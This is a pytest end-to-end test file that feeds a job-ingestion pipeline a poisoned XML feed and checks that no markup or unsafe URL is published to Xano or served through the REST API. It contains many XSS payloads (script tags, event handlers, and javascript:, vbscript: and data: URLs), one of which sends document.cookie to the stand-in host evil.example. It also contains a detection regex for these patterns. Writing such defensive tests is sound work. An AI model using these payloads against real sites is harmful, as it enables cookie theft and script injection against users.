"""A hostile feed owner cannot reach the people who read our data: feed_job on a feed whose titles, companies,
descriptions and URL fields carry script, event handlers, iframes, SVG, forms and javascript:/vbscript:/data:
URLs (and salaries whose digits overflow a float) publishes none of it, neither to Xano nor through the REST API;
jobs whose apply URL is unsafe are rejected `invalid` with the reason. SQLite and PostgreSQL, offline classifier,
sandboxed Xano."""
from __future__ import annotations

import html
import json
import math
import re

import dagster as dg
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from lxml import etree

from feed_pipeline.api.app import create_app
from feed_pipeline.api.settings import ApiSettings
from feed_pipeline.automation.runner import run_feed
from feed_pipeline.cli import SAMPLE_FEED_PATH
from feed_pipeline.core.text import has_markup
from feed_pipeline.resources.database import engine_for
from feed_pipeline.resources.xano import XanoSandboxResource
from feed_pipeline.store import feeds as feed_store
from feed_pipeline.store import schema
from feed_pipeline_tests.e2e.test_feed_job import _defs, _xano_records

JOBS = 60  # enough of the sample feed for every route, approved included
TITLE_PAYLOADS = [
    "<script>alert('title')</script>",
    "<img src=x onerror=alert('title')>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<svg/onload=alert(1)>",
    "<form action=\"javascript:alert(1)\"><input name=q></form>",
    "&lt;script&gt;alert('escaped title')&lt;/script&gt;",
]
COMPANY_PAYLOADS = [
    "<img src=x onerror=alert('company')>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<svg><script>alert(1)</script></svg>",
    "&lt;iframe src=javascript:alert(1)&gt;&lt;/iframe&gt;",
]
DESCRIPTION_PAYLOADS = [
    "<p><a href=\"javascript:alert(1)\" onclick=\"alert(2)\">apply</a></p><img src=x onerror=alert(3)>",
    "<script>alert(1)</script><style>body{background:url(javascript:alert(1))}</style>",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
    "<form action=\"https://evil.example\"><input type=password></form><svg onload=alert(1)></svg>",
    "<a href=\"vbscript:msgbox(1)\">x</a><a href=\" JaVaScRiPt:alert(1)\">y</a>",
    "<div onmouseover=\"alert(1)\">hover</div><math><mtext><img src=x onerror=alert(1)></mtext></math>",
]
OVERFLOWING_SALARY = "1" + ",111" * 2000
UNSAFE_APPLY_URLS = {  # referencenumber suffix -> url; each job is rejected invalid
    "evil-js": ("javascript:alert(document.domain)//https://jobs.example.com/1", "javascript"),
    "evil-vb": ("vbscript:msgbox(1)", "vbscript"),
    "evil-data": ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data"),
    "evil-tab": ("\tJaVa\tScRiPt:alert(1)", "javascript"),
}
# What must not appear anywhere we publish. Plain text that merely names a scheme inside a sentence is not
# a URL, so the scheme patterns look for one at the start of a JSON string value.
FORBIDDEN = re.compile(
    r"<\s*/?\s*(script|iframe|svg|form|img|object|embed|math|style)\b"  # live tags
    r"|<[^>]*\bon[a-z]+\s*="  # an event handler inside a tag
    r"|\"\s*(javascript|vbscript|data|livescript)\s*:"  # a string value that is a script or data URL
    r"|href=\\?\"\s*(javascript|vbscript|data)\s*:",  # a link to one inside HTML
    re.IGNORECASE,
)


def _cdata(text: str) -> etree.CDATA:
    return etree.CDATA(text)


def hostile_feed() -> bytes:
    """The first JOBS jobs of the sample feed, every one poisoned, plus four jobs with unsafe apply URLs."""
    tree = etree.parse(str(SAMPLE_FEED_PATH), etree.XMLParser(strip_cdata=False))
    root = tree.getroot()
    jobs = root.findall("job")
    for extra in jobs[JOBS:]:
        root.remove(extra)
    for index, job in enumerate(jobs[:JOBS]):
        title, company, description = (job.find(tag) for tag in ("title", "company", "description"))
        title.text = _cdata(TITLE_PAYLOADS[index % len(TITLE_PAYLOADS)] + title.text)
        company.text = _cdata(COMPANY_PAYLOADS[index % len(COMPANY_PAYLOADS)] + company.text)
        poisoned = description.text.strip() + DESCRIPTION_PAYLOADS[index % len(DESCRIPTION_PAYLOADS)]
        # Every other description escapes its markup inside the CDATA, as the issue found feeds doing.
        description.text = _cdata(html.escape(poisoned, quote=False) if index % 2 else poisoned)
        etree.SubElement(job, "logo").text = "javascript:alert('logo')"
        etree.SubElement(job, "companyurl").text = _cdata(" DATA:text/html,<script>alert(1)</script>")
        etree.SubElement(job, "banner").text = _cdata("<img src=x onerror=alert('extra')>Now hiring")
        if index % 5 == 0:  # digits that read as infinity: once made every run's mirror fail on one job
            salary = job.find("salary")
            (salary if salary is not None else etree.SubElement(job, "salary")).text = OVERFLOWING_SALARY
    template = jobs[0]
    for suffix, (url, _) in UNSAFE_APPLY_URLS.items():
        job = etree.fromstring(etree.tostring(template))
        job.find("referencenumber").text = _cdata(f"QUA-{suffix}")
        job.find("requisitionid").text = _cdata(f"REQ-{suffix}")
        job.find("url").text = _cdata(url)
        root.append(job)
    return etree.tostring(tree, xml_declaration=True, encoding="utf-8")


def forbidden_in(payload: object) -> list[str]:
    text = json.dumps(payload, default=str)
    return sorted({match.group(0) for match in FORBIDDEN.finditer(text)})


@pytest.fixture
def hostile_run(db_url, tmp_path):
    feed = tmp_path / "hostile.xml"
    feed.write_bytes(hostile_feed())
    engine = engine_for(db_url)
    feed_store.upsert_feed(engine, "hostile", url=str(feed), kind="xml")
    xano_db = str(tmp_path / "xano.sqlite")
    with dg.instance_for_test() as instance:
        summary = run_feed(_defs(db_url, xano_db), instance, "hostile", database_url=db_url)
    return summary, engine, XanoSandboxResource(db_path=xano_db), db_url


def test_the_forbidden_pattern_catches_what_the_issue_found():
    assert forbidden_in({"title": "<img src=x onerror=alert(1)>Dev"})
    assert forbidden_in({"url": "javascript:alert(1)//https://x"})
    assert forbidden_in({"description_html": '<a href="javascript:alert(1)">x</a>'})
    assert not forbidden_in({"title": "Dev", "description": "We use JavaScript: React and Vue."})


def test_a_hostile_feed_publishes_no_script_to_xano_or_the_api(hostile_run):
    summary, _, xano, db_url = hostile_run
    assert summary["status"] == "success", summary
    assert summary["counts"]["approved"] > 0 and summary["counts"]["invalid"] == len(UNSAFE_APPLY_URLS)

    records = _xano_records(xano, "hostile")
    assert len(records) == summary["counts"]["approved"]
    assert forbidden_in(records) == []
    assert all(r["url"].startswith("https://") for r in records)
    assert all(r[name] is None or math.isfinite(r[name]) for r in records for name in ("salary_min", "salary_max"))
    for record in records:  # the text fields are plain: the payloads are gone, the words stay
        assert not any(has_markup(record[name]) for name in ("title", "company", "description", "ai_title",
                                                             "ai_description")), record["job_key"]
        assert "alert" not in record["title"] + record["company"] and record["title"] and record["company"]

    client = TestClient(create_app(settings=ApiSettings(database_url=db_url)), raise_server_exceptions=False)
    listing = client.get("/api/jobs", params={"route": "any", "limit": 200, "feed_id": "hostile"})
    assert listing.status_code == 200
    jobs = listing.json()["jobs"]
    assert len(jobs) == listing.json()["total"] > summary["counts"]["approved"]
    assert forbidden_in(listing.json()) == []
    for job in jobs:
        detail = client.get(f"/api/jobs/{job['job_key']}")
        assert detail.status_code == 200
        assert forbidden_in(detail.json()) == [], job["job_key"]
        extra = detail.json()["extra"]
        assert "logo" not in extra and "companyurl" not in extra  # unsafe URL fields are dropped
    searched = client.get("/api/jobs", params={"search": "script alert", "route": "any"})
    assert searched.status_code == 200 and forbidden_in(searched.json()) == []


def test_jobs_with_an_unsafe_apply_url_are_rejected_invalid_with_the_reason(hostile_run):
    _, engine, xano, _ = hostile_run
    with engine.connect() as conn:
        raw = {row.source_id: row for row in conn.execute(
            sa.select(schema.raw_jobs.c.source_id, schema.raw_jobs.c.url, schema.raw_jobs.c.rejection_reason,
                      schema.raw_jobs.c.rejection_detail, schema.raw_jobs.c.job_key)
            .where(schema.raw_jobs.c.feed_id == "hostile", schema.raw_jobs.c.source_id.like("QUA-evil-%")))}
        routes = dict(conn.execute(sa.select(schema.jobs.c.job_key, schema.jobs.c.reason).where(
            schema.jobs.c.feed_id == "hostile", schema.jobs.c.route == "rejected")).all())
    assert set(raw) == {f"QUA-{suffix}" for suffix in UNSAFE_APPLY_URLS}
    for suffix, (_, scheme) in UNSAFE_APPLY_URLS.items():
        row = raw[f"QUA-{suffix}"]
        assert row.url is None and row.rejection_reason == "invalid"
        assert row.rejection_detail == f"url has the scheme {scheme!r}; only http and https are published"
        assert routes[row.job_key] == "invalid"
    published = {r["job_key"] for r in _xano_records(xano, "hostile")}
    assert not published & {row.job_key for row in raw.values()}
